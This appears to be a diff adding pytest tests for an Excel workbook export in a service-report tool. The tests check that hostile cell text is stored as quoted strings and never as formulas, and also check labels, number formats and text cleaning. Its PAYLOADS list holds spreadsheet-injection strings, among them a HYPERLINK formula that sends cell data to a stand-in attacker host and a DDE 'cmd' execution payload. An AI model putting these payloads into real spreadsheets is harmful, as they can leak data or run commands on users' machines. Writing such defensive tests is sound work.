@@ -1,0 +1,137 @@
+"""The workbook (SPEC §6, §8; ADVERSARIAL 8, 10, 12, 14)."""
+
+from __future__ import annotations
+
+import dataclasses
+import io
+import re
+import zipfile
+from typing import Any
+
+import pytest
+from helpers_pack import make_pack, make_tickets
+from openpyxl import load_workbook
+
+from qbr.report import workbook_bytes
+from qbr.report.pdf import formatters_for
+from qbr.report.xlsx_cells import MAX_CELL_CHARS, clean_cell_text
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "+49 30 1234567",
+    "-1+2",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "'=1+1",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")
+
+
+def _hostile_pack() -> Any:
+    base = make_tickets()
+    tickets = tuple(
+        dataclasses.replace(base[i], title=p, ticket_id=p, source_file=p)
+        for i, p in enumerate(PAYLOADS)
+    )
+    outages = tuple(
+        dataclasses.replace(o, reason=PAYLOADS[i], monitor=PAYLOADS[-1 - i])
+        for i, o in enumerate(make_pack().outages)
+    )
+    return make_pack(tickets=tickets, client_name=PAYLOADS[0], outages=outages)
+
+
+def _xlsx(pack: Any) -> bytes:
+    return workbook_bytes(pack, formatters_for(pack))
+
+
+def _column(ws: Any, header: str) -> list[Any]:
+    headers = [c.value for c in ws[1]]
+    col = headers.index(header) + 1
+    return [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
+
+
+def test_no_formula_is_ever_written() -> None:
+    data = _xlsx(_hostile_pack())
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = z.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, name
+        styles = z.read("xl/styles.xml").decode("utf-8")
+    assert 'quotePrefix="1"' in styles
+
+
+def test_hostile_text_round_trips_exactly_as_typed_strings() -> None:
+    wb = load_workbook(io.BytesIO(_xlsx(_hostile_pack())))
+    tickets = wb["Tickets"]
+    for header in ("Title", "Ticket", "Source file"):
+        cells = _column(tickets, header)
+        assert [c.value for c in cells] == PAYLOADS
+        for cell in cells:
+            assert cell.data_type == "s"
+            assert bool(cell.quotePrefix) == cell.value.startswith(TRIGGERS), repr(cell.value)
+    summary = wb["Summary"]
+    assert summary["B1"].value == PAYLOADS[0] and summary["B1"].quotePrefix
+    reasons = [c.value for c in _column(wb["Outages"], "Reason")]
+    assert sorted(reasons) == sorted(PAYLOADS[:3])
+
+
+def test_cells_are_inline_strings_in_the_xml() -> None:
+    with zipfile.ZipFile(io.BytesIO(_xlsx(_hostile_pack()))) as z:
+        xml = z.read("xl/worksheets/sheet2.xml").decode("utf-8")  # Tickets
+    assert xml.count('t="inlineStr"') >= 3 * len(PAYLOADS)
+    assert "&#13;=1+1" in xml  # CR kept as a reference, so it survives XML parsing
+
+
+def test_numeric_columns_stay_numeric() -> None:
+    wb = load_workbook(io.BytesIO(_xlsx(make_pack())))
+    ws = wb["Tickets"]
+    for header in (
+        "Response elapsed (min)",
+        "Resolution elapsed (min)",
+        "Paused (min)",
+        "Source row",
+    ):
+        assert all(c.data_type == "n" and c.value is not None for c in _column(ws, header))
+    created = _column(ws, "Created (local time)")
+    assert all(c.is_date and c.value.tzinfo is None for c in created)
+
+
+def test_summary_kpis_are_values_with_formats() -> None:
+    wb = load_workbook(io.BytesIO(_xlsx(make_pack())), data_only=True)
+    ws = wb["Summary"]
+    rows = {(r[0].value, r[1].value): r for r in ws.iter_rows() if r[0].value}
+    resp_all = rows[("Response", "All priorities")]
+    attainment = resp_all[6]
+    assert isinstance(attainment.value, float) and attainment.number_format == "0.0%"
+    # Truncated like the PDF: 26 / 29 = 89.655… % is shown as 89.6 %, not 89.7 %.
+    assert attainment.value == pytest.approx(0.896)
+    assert resp_all[7].value == pytest.approx(100 * 26 / 29)
+    labels = {r[0].value: r for r in ws.iter_rows() if r[0].value}
+    assert labels["Credit amount"][1].value == pytest.approx(612.51)
+    assert labels["Critical uptime"][2].value == pytest.approx(0.9991)
+    assert labels["Input rows read"][1].value == 469
+
+
+def test_german_workbook_has_german_labels() -> None:
+    wb = load_workbook(io.BytesIO(_xlsx(make_pack(locale="de_DE"))))
+    assert wb.sheetnames == ["Übersicht", "Tickets", "Ausfälle", "Eingaben"]
+    assert wb["Tickets"]["C1"].value == "Titel"
+
+
+def test_sheets_are_frozen_and_filtered() -> None:
+    wb = load_workbook(io.BytesIO(_xlsx(make_pack())))
+    assert wb["Tickets"].freeze_panes == "A2"
+    assert re.fullmatch(r"A1:Q\d+", wb["Tickets"].auto_filter.ref or "")
+
+
+def test_illegal_characters_and_long_text() -> None:
+    assert clean_cell_text("a\x00b\x0bc\x1bd") == "a\ufffdb\ufffdc\ufffdd"
+    long = clean_cell_text("x" * 40_000)
+    assert len(long) == MAX_CELL_CHARS and long.endswith("]")
+    pack = make_pack(tickets=(dataclasses.replace(make_tickets()[0], title="bad\x0b\x00"),))
+    wb = load_workbook(io.BytesIO(_xlsx(pack)))
+    assert _column(wb["Tickets"], "Title")[0].value == "bad\ufffd\ufffd"
